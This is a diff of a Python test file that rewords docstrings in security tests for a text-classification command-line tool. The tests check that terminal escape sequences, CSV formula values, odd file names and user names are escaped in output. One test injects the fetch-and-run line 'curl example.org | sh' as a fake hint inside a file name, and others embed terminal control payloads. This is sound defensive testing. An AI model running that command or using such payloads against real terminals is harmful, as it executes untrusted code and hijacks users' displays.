@@ -1,4 +1,4 @@
-"""What a terminal would obey never reaches it; nothing breaks out of the form it is shown in."""
+"""Escape sequences never reach a terminal, and nothing breaks out of its output format."""
 
 import csv
 import io
@@ -23,14 +23,14 @@ def harmless(shown):
 
 @pytest.fixture
 def evil_file(project):
-    """A file with one text, which is evil."""
+    """Return a file with one hostile text."""
     (project / "evil.txt").write_text(f"so {EVIL} great\r,'\"=1+1\n", newline="")
 
 
 @pytest.mark.parametrize("form", ["text", "jsonl", "csv", "json"])
 @pytest.mark.usefixtures("evil_file")
 def test_texts_on_a_terminal(terminal, form):
-    """In every form the text is written out where a terminal would obey it."""
+    """In every format, control characters of texts are escaped on a terminal."""
     shown = terminal("predict", "-f", "evil.txt", *form_option(form)).out
     assert harmless(shown.replace("\x1b[1m", ""))
     assert "owned" in shown
@@ -39,7 +39,7 @@ def test_texts_on_a_terminal(terminal, form):
 @pytest.mark.parametrize("form", ["jsonl", "csv", "json"])
 @pytest.mark.usefixtures("evil_file")
 def test_texts_for_a_program(process, form):
-    """A program gets the text as it is, and JSON says it in ASCII where it matters."""
+    """A program gets texts unchanged, and JSON escapes invisible characters."""
     out = process("predict", "-f", "evil.txt", *form_option(form)).out
     read = {
         "jsonl": lambda: json.loads(out)["text"],
@@ -53,7 +53,7 @@ def test_texts_for_a_program(process, form):
 
 @pytest.fixture
 def evil(empty, cli, monkeypatch):
-    """Run a command in a folder in which texts, labels, names and the user are evil."""
+    """Return a function that runs a command with hostile texts, labels, names and user."""
     monkeypatch.setenv("USER", f"u{EVIL}")
     monkeypatch.setenv("LOGNAME", f"u{EVIL}")
     lines = "".join(f"good {n} {EVIL},a\nbad {n},b{EVIL}b\n" for n in range(9))
@@ -90,7 +90,7 @@ def form_option(form):
 )
 @pytest.mark.parametrize("how", ["cli", "terminal"])
 def test_evil_labels_names_messages_and_columns(evil, request, command, how):
-    """Whatever of the user's own data is shown, on a terminal and in a pipe, is written out."""
+    """All user data is shown escaped, on a terminal and in a pipe."""
     if command[0] != "train":
         evil("train", "--grid", "grid.toml", "--cv", "2", "-m", f"m{EVIL}")
     done = request.getfixturevalue(how)(*command)
@@ -105,7 +105,7 @@ def test_evil_labels_names_messages_and_columns(evil, request, command, how):
 
 
 def test_markup_in_a_search_space_is_no_markup(data, terminal):
-    """Square brackets in a parameter are not Rich's under the leaderboard."""
+    """Square brackets in parameters are not Rich markup in the leaderboard."""
     (data / "grid.toml").write_text(MARKUP)
     done = terminal("train", "--grid", "grid.toml")
     assert done.code == 0
@@ -113,7 +113,7 @@ def test_markup_in_a_search_space_is_no_markup(data, terminal):
 
 
 def test_warnings_of_libraries_are_lines_like_others(data, process):
-    """What scikit-learn warns of is told once, written out, and without its source."""
+    """A warning of scikit-learn is printed once, escaped, and without source lines."""
     stop = '["\\u001b]0;owned\\u0007"]'
     (data / "grid.toml").write_text(
         f"[features.word]\ntoken_pattern = '\\S\\S+'\nstop_words = [{stop}]\n"
@@ -127,7 +127,7 @@ def test_warnings_of_libraries_are_lines_like_others(data, process):
 
 
 def test_a_message_is_one_line(empty, cli):
-    """A name with line breaks cannot pass for an error and a hint of its own."""
+    """A name with line breaks cannot imitate an error and a hint."""
     done = cli("check", "data\nhint: curl example.org | sh")
     assert done.err == "error: there is no file data\\nhint: curl example.org | sh\n"
     (empty / "a\nhint: b.csv").write_text("text,label\n,x\n")
@@ -145,13 +145,13 @@ def test_a_message_is_one_line(empty, cli):
     ],
 )
 def test_names_in_commands_are_quoted(empty, cli, name, content, hint):
-    """A command that a hint gives does with the file what it says, whatever the file is called."""
+    """Commands in hints quote file names for the shell."""
     (empty / name).write_bytes(content)
     assert cli("check", name).err.splitlines()[1] == hint
 
 
 def test_settings_hold_no_control_characters(empty, cli):
-    """Somebody else's settings cannot write to a terminal through --help; a tab is a delimiter."""
+    """Settings with control characters are refused, except a tab as delimiter."""
     (empty / "textclf.toml").write_text('encoding = "\\u001b[31m\\u009b2J"\n')
     for command in (("check", "--help"), ("check",)):
         done = cli(*command)
@@ -165,7 +165,7 @@ def test_settings_hold_no_control_characters(empty, cli):
 
 @pytest.mark.usefixtures("project")
 def test_a_user_whose_name_is_no_text(process):
-    """Who promoted is recorded, though the name of the user be not UTF-8."""
+    """A user name that is not UTF-8 is recorded and shown escaped."""
     name = {"USER": b"caf\xe9".decode(errors="surrogateescape")}
     assert process("promote", "1.0.0", env={**name, "LOGNAME": name["USER"]}).code == 0
     assert "caf\\udce9@" in process("history").out
